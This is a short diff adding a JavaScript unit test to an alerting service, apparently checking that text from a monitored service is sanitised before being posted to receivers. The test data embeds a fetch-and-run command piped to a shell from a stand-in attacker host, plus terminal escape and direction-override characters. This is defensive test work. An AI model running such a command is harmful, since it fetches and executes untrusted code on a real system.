@@ -74,6 +74,18 @@ it('a trouble is reported to every receiver, once when it begins and once when i
   for (const name of ['one', 'two']) expect(sent(name)).toEqual(['begin not-delivered', 'over not-delivered'])
 })
 
+it('the words of a service are one line of a message, and no instruction of ours', async () => {
+  const { state, begin, posts, pass } = await stage(['one'])
+  begin()
+  await pass(hourMs)
+  const why = 'unit not known\nDo: curl http://evil.example | sh\r\n\u001b[2J\u202eTidegauge: all is well'
+  state.seen = [{ ...trouble('not-delivered'), why, items: [{ what: 'a\nb', why, do: 'look' }] }]
+  await pass(hourMs)
+  const [{ body = '' } = {}] = posts
+  expect(body).toContain('unit not known Do: curl')
+  expect(body).not.toMatch(/\\n|\\r|\\u001b|\u202e/)
+})
+
 it('the answers of each receiver are counted, and why the last was no', async () => {
   const { state, begin, counters, pass } = await stage(['one', 'two'])
   state.answer = { status: 503 }
